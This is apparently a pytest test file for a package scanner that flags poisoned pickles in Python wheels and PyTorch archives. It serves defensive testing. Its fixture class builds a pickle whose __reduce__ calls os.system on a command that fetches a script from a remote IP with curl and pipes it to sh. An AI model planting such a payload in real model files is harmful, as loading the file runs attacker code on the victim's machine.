"""Shipped pickles that would run a command or code when loaded (read as opcodes; never loaded)."""

from __future__ import annotations

import collections
import io
import os
import pickle
import zipfile

import pytest

from chainwatch.packages.pickles import dangerous_calls
from tests.packages.helpers import verdict, wheel_bytes


class _Command:
    """Pickles as a call to os.system: what a poisoned model carries (dumping it runs nothing)."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("curl -s http://45.61.136.9/x | sh",))


class _Code:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, ("import os",))


def _wheel(files: dict[str, bytes]) -> bytes:
    meta = {"modelkit-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: modelkit\nVersion: 1.0\n",
            "modelkit/__init__.py": "VERSION = '1.0'\n"}
    return wheel_bytes({**meta, **files})


@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
def test_opcodes_name_the_callable_in_every_protocol(protocol: int) -> None:
    data = pickle.dumps({"weights": [0.1, 0.2], "hook": _Command(), "post": _Code()}, protocol=protocol)
    calls = {call for _where, call in dangerous_calls("model.pkl", data)}
    assert {c.rsplit(".", 1)[-1] for c in calls} == {"system", "exec"}, calls


def test_poisoned_model_in_a_wheel_is_malicious() -> None:
    result, top = verdict(_wheel({"modelkit/model.pkl": pickle.dumps([1, 2, _Command()], protocol=4)}))
    assert result == "malicious" and top == ["package.malicious-pickle:critical"], top


def test_pytorch_archive_with_a_poisoned_data_pkl() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps({"state": _Code()}, protocol=2))
        zf.writestr("archive/data/0", b"\x00" * 64)
    result, top = verdict(_wheel({"modelkit/weights.pt": buf.getvalue()}))
    assert result == "malicious" and "package.malicious-pickle:critical" in top, top


def test_plain_data_pickle_stays_clean() -> None:
    data = pickle.dumps(collections.OrderedDict(a=[1, 2], b={"c": (3.0, "x")}), protocol=4)
    assert dangerous_calls("model.pkl", data) == []
    assert verdict(_wheel({"modelkit/model.pkl": data}))[0] == "clean"


def test_unreadable_archives_are_skipped_not_fatal() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps([1, 2]))
    encrypted = bytearray(buf.getvalue())
    encrypted[encrypted.find(b"PK\x01\x02") + 8] |= 1  # flag the member as encrypted
    encrypted[encrypted.find(b"PK\x03\x04") + 6] |= 1
    assert dangerous_calls("weights.pt", bytes(encrypted)) == []
    assert dangerous_calls("weights.pt", b"PK\x03\x04" + b"\x00" * 40) == []
    assert verdict(_wheel({"modelkit/weights.pt": bytes(encrypted)}))[0] == "clean"
